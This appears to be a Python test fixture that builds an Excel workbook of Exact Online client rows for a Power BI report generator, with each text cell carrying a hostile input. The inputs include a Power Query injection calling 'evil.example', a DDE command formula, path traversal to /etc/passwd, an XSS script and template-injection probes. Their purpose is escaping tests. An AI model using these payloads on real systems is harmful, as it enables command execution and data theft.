"""An office in which every cell that holds text holds a hostile one, each client its own."""

from __future__ import annotations

import zlib

from hypothesis import strategies as st
from openpyxl import Workbook

from generator.spec.example_logos import example_logos

HOSTILE = {
    "quotes": 'O\'Neill "B.V." \'\'x\'\' ""y"" "), Web.Contents("https://evil.example") & ("',
    "escapes": '#(lf)#(cr)#(#) "] meta [IsParameterQuery = false] //',
    "unseen": "a\u2028b\u2029c\u202ed\u200fe\xa0f 😀 Σ 中文 ﷽ é e\u0301",
    "formula": "=cmd|'/c calc'!A1 -- ../../etc/passwd C:\\con\\..\\x",
    "html": "<script>alert(1)</script> &amp; <!-- --> ]]>",
    "templates": "{{ 7*7 }} << 7 >> <% set x = 1 %> <%# #%> <<t.division>> <<fact>> %s {0.__class__} ${y} %PATH%",
    "long": "x" * 300,
    "markdown": "*a* _b_ ``c`` | d | # e \\ [f](g) - h",
}


def marked(kind, field):
    """Return a text that stands in the rows of one client only."""
    return f"zq{kind}{field}qz"


def workbook(folder, values):
    """Write an office in which each client carries one value in every text that a cell can hold; return its path."""
    rows = {
        "Kantoor": [["Naam", "Geconsolideerde URL"], ["Kantoor", "https://bridge-online.cloud/kantoor/odata4"]],
        "Klanten": [
            [
                "Code",
                "Naam",
                "URL",
                "Groep",
                "Beheerder",
                "Client-ID",
                "Exact-gebruiker",
                "Werkruimte",
                "Budgetscenario",
                "Logo",
            ]
        ],
        "Administraties": [["Klant", "Code", "Naam"]],
        "Rapporten": [["Klant", "Rapport", "Titel"]],
        "Meetwaarden": [["Klant", "Naam", "DAX", "Opmaak", "Map", "Omschrijving"]],
        "Visuals": [["Klant", "Rapport", "Pagina", "Soort", "Titel", "Waarden"]],
        "Tabellen": [["Klant", "Entiteit", "Naam", "Kolommen", "Filter"]],
        "Onderling": [["Klant", "Relatie", "Rekening", "Met"]],
        "Teksten": [["Klant", "Rapport", "Pagina", "Tekst"]],
        "Toegang": [["Klant", "E-mail", "Rol", "Administraties"]],
    }
    for number, (kind, value) in enumerate(values.items(), 1):
        (folder / f"{marked(kind, 'logo')}.png").write_bytes(logo(number))
        for sheet, row in client_rows(kind, value, number):
            rows[sheet].append(row)
    book = Workbook()
    book.remove(book.worksheets[0])
    for sheet, lines in rows.items():
        page = book.create_sheet(sheet)
        for at, line in enumerate(lines, 1):
            for column, value in enumerate(line, 1):
                cell = page.cell(at, column, value)
                if isinstance(value, str):
                    cell.data_type = "s"  # or what begins with = would be a formula
    path = folder / "kantoor.xlsx"
    book.save(path)
    return path


def logo(number):
    """Return a picture that only one client has."""
    picture = next(iter(example_logos().values()))
    colour = bytes([number, 0x2A, 0x37])
    head, palette, rest = picture[:33], picture[33:57], picture[57:]
    data = palette[8:11] + colour + palette[14:20]
    return head + palette[:8] + data + zlib.crc32(b"PLTE" + data).to_bytes(4, "big") + rest


def client_rows(kind, value, number):
    """Yield the rows of one client: (sheet, cells)."""
    code, first, second = f"k-{kind}", 910000 + number, 920000 + number

    def text(field):
        return f"{value} {marked(kind, field)}"

    url = f"https://bridge-online.cloud/{marked(kind, 'url')}/odata4"
    own = [text(field) for field in ("groep", "beheerder", "app", "gebruiker", "werkruimte", "budget")]
    own.append(f"{marked(kind, 'logo')}.png")
    literal = '"' + text("dax").replace('"', '""') + '"'
    no_name = str.maketrans("", "", ",;[]\n\u2028\u2029")  # refused in a name, or splits a list
    measure = f"Maat {text('maat')}".translate(no_name)
    described = [text("opmaak"), text("map"), f"{text('omschrijving')}\n{text('omschrijving')}"]
    yield "Klanten", [code, text("naam"), url, *own]
    yield "Administraties", [code, first, text("een")]
    yield "Administraties", [code, second, text("twee")]
    yield "Rapporten", [code, "financieel", text("titel")]
    yield "Meetwaarden", [code, measure, f"IF ( [Netto-omzet] > 0, {literal} )", *described]
    yield "Visuals", [code, "financieel", text("pagina"), "cardVisual", text("kop"), measure]
    yield "Tabellen", [code, "ExactOnlineREST.Financial.Journals", text("tabel"), "Code",
                       f"Description eq {text('filter')}"]  # fmt: skip
    yield "Onderling", [code, text("relatie"), None, first]
    yield "Onderling", [code, text("relatie"), f"zq{kind}"[:20], None]
    yield "Teksten", [code, "financieel", "Samenvatting", f"{text('tekst')}\n{text('tekst')}"]
    yield "Toegang", [code, f"o'neill`{{{{x}}}}|{marked(kind, 'mail')}@b.example", "Viewer", str(first)]


FRAGMENTS = (
    *"'\"`#(){}[]<>|;,*_~\\/=-+@&%$!?:.\n \u2028\u2029\u202e\u200f\xa0\xad😀é中ß0",
    *(
        "#(lf)",
        '"] meta',
        "../",
        "<<",
        ">>",
        "<%",
        "{{",
        "//",
        "/*",
        "--",
        "''",
        '""',
        "#!",
        "]]>",
        "&amp;",
        "NUL",
        "x" * 300,
    ),
)
TEXTS = st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=12).map("".join)
